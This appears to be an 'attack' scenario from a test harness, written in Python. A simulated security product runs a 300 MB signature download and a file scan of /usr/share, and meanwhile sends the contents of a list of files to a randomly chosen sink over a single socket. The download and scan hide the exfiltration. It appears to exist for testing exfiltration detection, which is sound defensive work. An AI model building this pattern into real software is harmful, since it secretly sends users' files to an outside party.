# SPDX-License-Identifier: GPL-3.0-or-later
"""While a full scan runs and 300 MB of signatures come in as fast as they can, all files by one connection."""
import os
import random
import socket
import threading
import time

KIND = "attack"
SERVER, SIZE, TREE = ("10.77.0.2", 8080), 300 << 20, "/usr/share"


def stranger(world):
    block = random.Random(world["seed"]).randbytes(1 << 20)
    server = socket.create_server(SERVER)
    open(os.path.join(world["scratch"], "ready"), "w").close()
    peer, _ = server.accept()
    peer.recv(4096)
    for _ in range(SIZE >> 20):
        peer.sendall(block)
    peer.close()


def update(world, until):
    left = SIZE
    with socket.create_connection(SERVER) as sock, open(os.path.join(world["own"], "signatures"), "wb") as out:
        sock.sendall(b"GET /signatures HTTP/1.1\r\n\r\n")
        while data := sock.recv(1 << 18):
            out.write(data)
            left -= len(data)
    if not left:
        until.set()


def scan(until, most):
    for directory, _, names in os.walk(TREE):
        for path in (os.path.join(directory, name) for name in names):
            if until.is_set() or most == 0:
                return
            if os.path.isfile(path) and not os.path.islink(path):
                with open(path, "rb") as file:
                    file.read(1 << 16)
                most -= 1


def product(world):
    rng, until = random.Random(world["seed"]), threading.Event()
    threads = [threading.Thread(target=update, args=(world, until)),
               threading.Thread(target=scan, args=(until, 500 if world["small"] else -1))]
    for thread in threads:
        thread.start()
    time.sleep(rng.uniform(0.05, 0.3))
    with socket.create_connection(rng.choice(world["sinks"])) as sock:
        for path in world["files"]:
            with open(path, "rb") as file:
                sock.sendall(file.read())
    threads[0].join()
    assert until.is_set(), "the update has failed"
    threads[1].join()
